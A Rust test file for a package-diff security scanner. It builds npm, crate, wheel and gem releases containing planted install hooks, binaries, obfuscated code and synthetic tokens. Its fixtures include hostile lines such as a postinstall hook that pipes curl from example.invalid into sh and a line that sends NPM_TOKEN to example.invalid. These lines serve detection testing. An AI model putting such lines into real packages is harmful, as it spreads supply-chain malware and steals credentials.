//! `sluice diff` (issue 15): two releases built at test time (npm, crate, wheel, gem and
//! directories) with planted install scripts, dependencies, binaries and secrets; an unchanged
//! republish; OLD found in a mirror directory; PyPI macaroons built here (user-wide, one
//! project, two projects, expiring, garbage) and their scope on the finding.

use std::io::Write;
use std::path::{Path, PathBuf};

use base64::Engine as _;
use serde_json::Value;
use sluicebox::config::Config;
use sluicebox::diff::{self, Diff, Level};
use sluicebox::rules::Severity;

use crate::util;

pub(crate) fn tgz(files: &[(&str, &[u8])], prefix: &str) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut t = tar::Builder::new(gz);
    for (name, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        t.append_data(&mut h, format!("{prefix}{name}"), *data).unwrap();
    }
    t.into_inner().unwrap().finish().unwrap()
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn plain_tar(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut t = tar::Builder::new(Vec::new());
    for (name, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        t.append_data(&mut h, name, *data).unwrap();
    }
    t.into_inner().unwrap()
}

fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, data) in files {
        w.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, bytes).unwrap();
    p
}

fn run(old: &Path, new: &Path) -> Diff {
    diff::run(old, new, &Config { threads: 1, ..Config::default() }, util::engine()).unwrap()
}

fn has(d: &Diff, kind: &str, level: Level, needle: &str) -> bool {
    d.items.iter().any(|i| {
        i.kind == kind
            && i.level == level
            && (i.title.contains(needle)
                || i.path.as_deref() == Some(needle)
                || i.detail.as_deref().is_some_and(|x| x.contains(needle)))
    })
}

const HIGH: Level = Level::At(Severity::High);
const MEDIUM: Level = Level::At(Severity::Medium);

fn npm_pair(dir: &Path) -> (PathBuf, PathBuf, String) {
    let token = util::github_token(&mut util::Rng::new(15), "ghp_");
    let pj1 =
        br#"{"name": "acme-widget", "version": "1.4.0", "main": "index.js", "dependencies": {"left-pad": "1.3.0"}}"#;
    let pj2 = br#"{"name": "acme-widget", "version": "1.4.1", "main": "index.js",
        "scripts": {"postinstall": "node scripts/setup.js", "test": "tap"},
        "bin": {"acme": "bin/acme.js"},
        "dependencies": {"left-pad": "^1.3.0", "flatmap-streams": "^0.1.1"}}"#;
    let idx: &[u8] = b"module.exports = function widget() { return 42; };\n";
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend((0..4000u32).map(|i| (i * 7 % 251) as u8));
    let secret = format!("const KEY = \"{token}\";\n");
    let v1 = tgz(&[("package.json", pj1), ("index.js", idx)], "package/");
    let v2 = tgz(
        &[
            ("package.json", pj2),
            ("index.js", idx),
            ("scripts/setup.js", b"require('child_process').exec('curl -s https://example.invalid/x | sh');\n"),
            ("bin/helper", &elf),
            ("lib/telemetry.js", secret.as_bytes()),
        ],
        "package/",
    );
    (write(dir, "acme-widget-1.4.0.tgz", &v1), write(dir, "acme-widget-1.4.1.tgz", &v2), token)
}

#[test]
fn npm_release_with_planted_postinstall_dependency_binary_and_secret() {
    let dir = util::tempdir();
    let (old, new, token) = npm_pair(dir.path());
    let d = run(&old, &new);
    assert!(has(&d, "install.script", HIGH, "scripts.postinstall"), "{:#?}", d.items);
    assert!(has(&d, "dependency.added", MEDIUM, "flatmap-streams"), "{:#?}", d.items);
    assert!(has(&d, "dependency.loosened", MEDIUM, "left-pad"), "{:#?}", d.items);
    assert!(has(&d, "file.added-binary", HIGH, "bin/helper"), "{:#?}", d.items);
    assert!(has(&d, "bin.added", MEDIUM, "acme"), "{:#?}", d.items);
    assert!(has(&d, "finding.new", HIGH, "lib/telemetry.js"), "{:#?}", d.items);
    assert!(!d.items.iter().any(|i| i.title.contains("scripts.test")), "a test script runs at no install");
    assert_eq!((d.counts.added, d.counts.changed, d.counts.unchanged), (3, 1, 1));
    assert_eq!(d.old_id.as_deref(), Some("acme-widget 1.4.0"));
    assert_eq!(d.exit_code(Severity::High), 1);

    let out = util::sluice(&["diff", old.to_str().unwrap(), new.to_str().unwrap(), "--format", "json"]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let items = v["items"].as_array().unwrap();
    assert_eq!(items[0]["severity"], "high", "most severe first");
    assert!(items.iter().any(|i| i["path"] == "bin/helper"));
    assert_eq!(v["summary"]["added"], 3);
    let text = util::sluice(&["diff", old.to_str().unwrap(), new.to_str().unwrap(), "--color", "never"]);
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("HIGH   install-time hook added: scripts.postinstall"), "{text}");
    assert!(text.contains("new finding") && !text.contains(&token), "secrets are masked: {text}");
}

#[test]
fn unchanged_republish_reports_nothing() {
    let dir = util::tempdir();
    let (old, _, _) = npm_pair(dir.path());
    let copy = write(&dir.path().join("copy"), "acme-widget-1.4.0.tgz", &std::fs::read(&old).unwrap());
    let d = run(&old, &copy);
    assert!(d.items.is_empty(), "{:#?}", d.items);
    assert_eq!(d.exit_code(Severity::Low), 0);
    // Recompressed with other settings: the same files, nothing to report either.
    let files = [("package.json", &br#"{"name": "a", "version": "1.0.0"}"#[..]), ("index.js", b"x")];
    let a = write(dir.path(), "a/a-1.0.0.tgz", &tgz(&files, "package/"));
    let b = write(dir.path(), "b/a-1.0.0.tgz", &tgz(&files, "pkg/"));
    assert!(run(&a, &b).items.is_empty());
    let out = util::sluice(&["diff", old.to_str().unwrap(), copy.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stdout).contains("no changes"));
}

#[test]
fn crate_release_with_build_script_and_loosened_dependency() {
    let dir = util::tempdir();
    let toml1 = b"[package]\nname = \"acme\"\nversion = \"0.1.0\"\n\n[dependencies.serde]\nversion = \"=1.0.5\"\n";
    let toml2 = b"[package]\nname = \"acme\"\nversion = \"0.2.0\"\nbuild = \"tools/gen.rs\"\n\n[dependencies.serde]\nversion = \"1.0\"\n\n[build-dependencies]\ncc = \"1\"\n\n[dependencies.evil]\ngit = \"https://example.invalid/evil\"\n\n[[bin]]\nname = \"acme-cli\"\npath = \"src/main.rs\"\n";
    let lib: &[u8] = b"pub fn f() {}\n";
    let old = write(dir.path(), "acme-0.1.0.crate", &tgz(&[("Cargo.toml", toml1), ("src/lib.rs", lib)], "acme-0.1.0/"));
    let new = write(
        dir.path(),
        "acme-0.2.0.crate",
        &tgz(&[("Cargo.toml", toml2), ("src/lib.rs", lib), ("build.rs", b"fn main() {}\n")], "acme-0.2.0/"),
    );
    let d = run(&old, &new);
    assert!(has(&d, "install.file", HIGH, "build.rs"), "{:#?}", d.items);
    assert!(has(&d, "install.script", HIGH, "package.build"), "{:#?}", d.items);
    assert!(has(&d, "dependency.loosened", MEDIUM, "serde"), "{:#?}", d.items);
    assert!(has(&d, "dependency.added", MEDIUM, "build:cc"), "{:#?}", d.items);
    assert!(has(&d, "dependency.added", MEDIUM, "git https://example.invalid/evil"), "{:#?}", d.items);
    assert!(has(&d, "bin.added", MEDIUM, "acme-cli"), "{:#?}", d.items);
    assert_eq!(d.counts.unchanged, 1, "src/lib.rs lines up across the versioned root directories");
}

#[test]
fn wheel_release_with_pth_file_and_new_requirement() {
    let dir = util::tempdir();
    let meta1: &[u8] = b"Metadata-Version: 2.1\nName: acme\nVersion: 1.0\nRequires-Dist: requests (>=2.0,<3)\n\nlong description\nRequires-Dist: not-a-header\n";
    let meta2: &[u8] = b"Metadata-Version: 2.1\nName: acme\nVersion: 1.1\nRequires-Dist: requests>=2.0\nRequires-Dist: colorama; extra == \"color\"\nRequires-Dist: fastjson==0.1\n\n";
    let code: &[u8] = b"def f():\n    return 1\n";
    let old = write(
        dir.path(),
        "acme-1.0-py3-none-any.whl",
        &zip(&[("acme/__init__.py", code), ("acme-1.0.dist-info/METADATA", meta1)]),
    );
    let new = write(
        dir.path(),
        "acme-1.1-py3-none-any.whl",
        &zip(&[
            ("acme/__init__.py", code),
            ("acme-1.1.dist-info/METADATA", meta2),
            ("acme-1.1.dist-info/entry_points.txt", b"[console_scripts]\nacme = acme:main\n"),
            ("acme_init.pth", b"import os; os.system('id')\n"),
        ]),
    );
    let d = run(&old, &new);
    assert!(has(&d, "install.file", HIGH, "acme_init.pth"), "{:#?}", d.items);
    assert!(has(&d, "dependency.added", MEDIUM, "fastjson"), "{:#?}", d.items);
    assert!(has(&d, "dependency.added", MEDIUM, "extra:colorama"), "{:#?}", d.items);
    assert!(has(&d, "dependency.loosened", MEDIUM, "requests"), "{:#?}", d.items);
    assert!(has(&d, "bin.added", MEDIUM, "acme"), "{:#?}", d.items);
    assert!(!d.items.iter().any(|i| i.title.contains("not-a-header")), "the description body is no header");
    assert!(!d.items.iter().any(|i| i.kind == "file.added" && i.title.contains("METADATA")), "dist-info lines up");
}

#[test]
fn gem_release_with_new_extension() {
    let dir = util::tempdir();
    let meta = |v: &str, ext: &str| {
        format!(
            "--- !ruby/object:Gem::Specification\nname: acme\nversion: !ruby/object:Gem::Version\n  version: {v}\n{ext}dependencies: []\nfiles: []\n"
        )
    };
    let gem = |v: &str, ext: &str, files: &[(&str, &[u8])]| {
        plain_tar(&[("metadata.gz", &gz(meta(v, ext).as_bytes())), ("data.tar.gz", &tgz(files, ""))])
    };
    let rb: &[u8] = b"module Acme; end\n";
    let old = write(dir.path(), "acme-1.0.0.gem", &gem("1.0.0", "", &[("lib/acme.rb", rb)]));
    let new = write(
        dir.path(),
        "acme-1.1.0.gem",
        &gem(
            "1.1.0",
            "extensions:\n- ext/acme/extconf.rb\n",
            &[("lib/acme.rb", rb), ("ext/acme/extconf.rb", b"system('id')\n")],
        ),
    );
    let d = run(&old, &new);
    assert!(has(&d, "install.script", HIGH, "extensions:ext/acme/extconf.rb"), "{:#?}", d.items);
    assert!(has(&d, "install.file", HIGH, "ext/acme/extconf.rb"), "{:#?}", d.items);
    assert_eq!(d.counts.unchanged, 1, "lib/acme.rb inside data.tar.gz lines up");
    assert_eq!(d.new_id.as_deref(), Some("acme 1.1.0"));
}

#[test]
fn directories_and_a_directory_against_an_archive() {
    let dir = util::tempdir();
    let a = dir.path().join("a");
    let b = dir.path().join("b");
    write(&a, "package.json", br#"{"name": "x", "version": "1.0.0"}"#);
    write(&a, "index.js", b"module.exports = 1;\n");
    write(&b, "package.json", br#"{"name": "x", "version": "1.0.1", "scripts": {"preinstall": "node x.js"}}"#);
    write(&b, "index.js", b"module.exports = 1;\n");
    write(&b, "binding.gyp", b"{}\n");
    let d = run(&a, &b);
    assert!(has(&d, "install.script", HIGH, "scripts.preinstall"), "{:#?}", d.items);
    assert!(has(&d, "install.file", HIGH, "binding.gyp"), "{:#?}", d.items);
    let files =
        [("package.json", &br#"{"name": "x", "version": "1.0.0"}"#[..]), ("index.js", b"module.exports = 1;\n")];
    let archive = write(dir.path(), "x-1.0.0.tgz", &tgz(&files, "package/"));
    assert!(run(&a, &archive).items.is_empty(), "a directory and its packed archive are the same release");
}

#[test]
fn obfuscated_file_is_flagged() {
    let dir = util::tempdir();
    let pj: &[u8] = br#"{"name": "x", "version": "1.0.0"}"#;
    let old = write(
        dir.path(),
        "x-1.0.0.tgz",
        &tgz(&[("package.json", pj), ("lib/a.js", b"module.exports = 1;\n")], "package/"),
    );
    let blob = base64::engine::general_purpose::STANDARD
        .encode((0..3000u32).map(|i| (i * 31 % 256) as u8).collect::<Vec<_>>());
    let js = format!("eval(Buffer.from(\"{blob}\", \"base64\").toString());\n");
    let new = write(dir.path(), "x-1.0.1.tgz", &tgz(&[("package.json", pj), ("lib/a.js", js.as_bytes())], "package/"));
    let d = run(&old, &new);
    assert!(has(&d, "file.obfuscated", MEDIUM, "lib/a.js"), "{:#?}", d.items);
}

#[test]
fn previous_release_from_a_mirror_directory() {
    let dir = util::tempdir();
    let mirror = dir.path().join("mirror");
    let pkg = |v: &str| {
        let pj = format!(r#"{{"name": "acme-widget", "version": "{v}"}}"#);
        tgz(&[("package.json", pj.as_bytes())], "package/")
    };
    for v in ["1.0.0", "1.10.0", "1.9.0", "2.0.0"] {
        write(&mirror, &format!("npm/acme-widget-{v}.tgz"), &pkg(v));
    }
    write(&mirror, "npm/acme-widget-extra-1.9.5.tgz", &pkg("1.9.5"));
    let new = write(dir.path(), "new/acme-widget-1.11.0.tgz", &pkg("1.11.0"));
    let found = diff::find_previous(&new, Some(&mirror), sluicebox::input::Limits::default()).unwrap();
    assert!(found.ends_with("npm/acme-widget-1.10.0.tgz"), "{}", found.display());
    let out = util::sluice(&["diff", new.to_str().unwrap(), "--mirror", mirror.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "only the version changed: nothing that matters");
    assert!(String::from_utf8_lossy(&out.stderr).contains("acme-widget-1.10.0.tgz"));
    let out = util::sluice(&["diff", new.to_str().unwrap(), "--mirror", dir.path().join("new").to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("no release of 'acme-widget' before 1.11.0 found in"), "{err}");
}

fn sarif_errors(doc: &Value) -> Vec<String> {
    let text = std::fs::read_to_string(util::root().join("tests/sarif-schema-2.1.0.json")).unwrap();
    let schema: Value = serde_json::from_str(&text).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    validator.iter_errors(doc).map(|e| format!("{e} at {}", e.instance_path())).collect()
}

#[test]
fn sarif_output_is_valid() {
    let dir = util::tempdir();
    let (old, new, _) = npm_pair(dir.path());
    let out = util::sluice(&["diff", old.to_str().unwrap(), new.to_str().unwrap(), "--format", "sarif"]);
    assert_eq!(out.status.code(), Some(1));
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(sarif_errors(&doc), Vec::<String>::new());
    assert!(doc["runs"][0]["results"].as_array().unwrap().iter().any(|r| r["ruleId"] == "diff.install.script"));
}

// PyPI macaroons, built here in the v2 binary format (never copied from a real token).

fn varint(mut n: usize, out: &mut Vec<u8>) {
    loop {
        let b = (n & 0x7f) as u8;
        n >>= 7;
        out.push(if n > 0 { b | 0x80 } else { b });
        if n == 0 {
            break;
        }
    }
}

fn field(t: usize, data: &[u8], out: &mut Vec<u8>) {
    varint(t, out);
    varint(data.len(), out);
    out.extend_from_slice(data);
}

fn macaroon(caveats: &[&str], rng: &mut util::Rng) -> String {
    let mut m = vec![2u8];
    field(1, b"pypi.org", &mut m);
    field(2, rng.alnum(32).as_bytes(), &mut m);
    m.push(0);
    for c in caveats {
        field(2, c.as_bytes(), &mut m);
        m.push(0);
    }
    m.push(0);
    field(6, rng.alnum(32).as_bytes(), &mut m);
    format!("pypi-{}", base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(m))
}

#[test]
fn pypi_token_scope_from_macaroon_caveats() {
    let mut rng = util::Rng::new(1515);
    let cases: &[(&[&str], &str, &[&str], bool)] = &[
        (&[r#"{"version": 1, "permissions": "user"}"#], "user-wide", &[], false),
        (&[r#"{"version": 1, "permissions": {"projects": ["acme-widget"]}}"#], "project", &["acme-widget"], false),
        (
            &[r#"[1, ["acme-widget", "acme-cli"]]"#, r#"[2, ["8f1c", "9a2d"]]"#],
            "project",
            &["acme-widget", "acme-cli"],
            false,
        ),
        (&[r#"[3, "d2b8a5b0-7e6c-4a51-9c1e-2f4b6a8d0c13"]"#], "user-wide", &[], false),
        (&["[0, 1767225600, 1767222000]", r#"[1, ["acme-widget"]]"#], "project", &["acme-widget"], true),
        (
            &[r#"{"exp": 1767225600, "nbf": 1767222000}"#, r#"{"version": 1, "permissions": "user"}"#],
            "user-wide",
            &[],
            true,
        ),
    ];
    let dir = util::tempdir();
    for (i, (caveats, kind, projects, expires)) in cases.iter().enumerate() {
        let token = macaroon(caveats, &mut rng);
        let scope = sluicebox::scope::of("pypi.upload-token", token.as_bytes()).unwrap();
        assert_eq!(scope.kind, *kind, "{caveats:?}");
        assert_eq!(scope.projects, projects.iter().map(ToString::to_string).collect::<Vec<_>>(), "{caveats:?}");
        assert_eq!(scope.broad, *kind == "user-wide");
        assert_eq!(scope.remediation().is_some(), *kind == "user-wide");
        assert_eq!(scope.expires.is_some(), *expires, "{caveats:?}");
        if *expires {
            assert!(scope.to_json()["expires"].as_str().unwrap().starts_with("2026-01-01T00:00:00Z"));
        }
        write(dir.path(), &format!("t{i}.py"), format!("TWINE_PASSWORD = \"{token}\"\n").as_bytes());
    }
    // The scan finds each token and puts its scope on the JSON record.
    write(
        dir.path(),
        "garbage.py",
        format!("TWINE_PASSWORD = \"pypi-AgEIcHlwaS5vcmc{}\"\n", "A".repeat(80)).as_bytes(),
    );
    let out = util::sluice(&["scan", dir.path().to_str().unwrap(), "--format", "jsonl", "--no-progress"]);
    let records = util::jsonl(&out.stdout);
    let scopes: Vec<(String, Value)> = records
        .iter()
        .filter(|r| r["kind"] == "finding" && r["rule"] == "pypi.upload-token")
        .map(|r| (r["path"].as_str().unwrap().rsplit('/').next().unwrap().to_string(), r["scope"].clone()))
        .collect();
    assert!(!String::from_utf8_lossy(&out.stderr).contains("panicked"));
    for (i, (_, kind, _, _)) in cases.iter().enumerate() {
        let s = scopes.iter().find(|(p, _)| *p == format!("t{i}.py")).map(|(_, s)| s.clone()).unwrap_or_default();
        assert_eq!(s["kind"], *kind, "t{i}.py: {scopes:?}");
    }
    if let Some((_, s)) = scopes.iter().find(|(p, _)| p == "garbage.py") {
        assert_eq!(s["kind"], "unknown", "a macaroon header with garbage after it is not a scope");
    }
    for garbage in ["", "!!!!", "AgEI", "AgEIcHlwaS5vcmc", "AgEIcHlwaS5vcmcC_____w", "Ag\u{e9}"] {
        let s = sluicebox::scope::of("pypi.upload-token", format!("pypi-{garbage}").as_bytes()).unwrap();
        assert!(matches!(s.kind, "unknown" | "user-wide"), "{garbage}: {s:?}");
    }
}

#[test]
fn github_token_scope_on_the_finding() {
    let mut rng = util::Rng::new(7);
    let dir = util::tempdir();
    write(dir.path(), "a.js", format!("t = '{}'\n", util::github_token(&mut rng, "ghp_")).as_bytes());
    let out = util::sluice(&["scan", dir.path().to_str().unwrap(), "--format", "jsonl", "--no-progress"]);
    let records = util::jsonl(&out.stdout);
    let f = records.iter().find(|r| r["rule"] == "github.pat").expect("github.pat found");
    assert_eq!(f["scope"]["kind"], "classic");
    assert_eq!(f["scope"]["remediation"], "replace with a scoped token or trusted publishing");
}

fn git(dir: &Path, args: &[&str]) {
    let ok = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "commit.gpgsign=false"])
        .args(args)
        .output()
        .unwrap()
        .status
        .success();
    assert!(ok, "git {args:?}");
}

#[test]
fn package_against_its_repository() {
    let dir = util::tempdir();
    let repo = dir.path().join("repo");
    let pj: &[u8] = br#"{"name": "acme", "version": "1.0.0"}"#;
    let idx: &[u8] = b"module.exports = 1;\n";
    write(&repo, "package.json", pj);
    write(&repo, "index.js", idx);
    write(&repo, "test/a.js", b"// not packaged\n");
    git(&repo, &["init", "-q"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-qm", "v1"]);
    git(&repo, &["tag", "v1.0.0"]);
    // The work tree moves on after the tag; the ref is what counts.
    write(&repo, "index.js", b"module.exports = 2;\n");
    let honest = write(
        dir.path(),
        "honest/acme-1.0.0.tgz",
        &tgz(&[("package.json", pj), ("index.js", idx), ("dist/index.min.js", b"x")], "package/"),
    );
    let modified = b"module.exports = 1;\nrequire('https').get('https://example.invalid/?' + process.env.NPM_TOKEN);\n";
    let built = write(
        dir.path(),
        "built/acme-1.0.0.tgz",
        &tgz(&[("package.json", pj), ("index.js", modified), ("lib/extra.js", b"module.exports = 3;\n")], "package/"),
    );
    let spec = format!("{}@v1.0.0", repo.display());
    let out = util::sluice(&["diff", &spec, honest.to_str().unwrap(), "--format", "json"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));
    let out = util::sluice(&["diff", &spec, built.to_str().unwrap(), "--format", "json"]);
    assert_eq!(out.status.code(), Some(1));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let items = v["items"].as_array().unwrap();
    let differs = items.iter().find(|i| i["kind"] == "source.differs").expect("modified file reported");
    assert_eq!(differs["path"], "index.js");
    assert!(differs["detail"].as_str().unwrap().contains("+require('https')"), "{differs}");
    assert!(items.iter().any(|i| i["kind"] == "source.missing" && i["path"] == "lib/extra.js"), "{items:?}");
    let out = util::sluice(&["diff", &spec, built.to_str().unwrap(), "--build-output", "lib/**", "--format", "json"]);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(!v["items"].as_array().unwrap().iter().any(|i| i["path"] == "lib/extra.js"), "declared build output");
    let out = util::sluice(&["diff", &format!("{}@no-such-tag", repo.display()), built.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read 'no-such-tag'"));
}
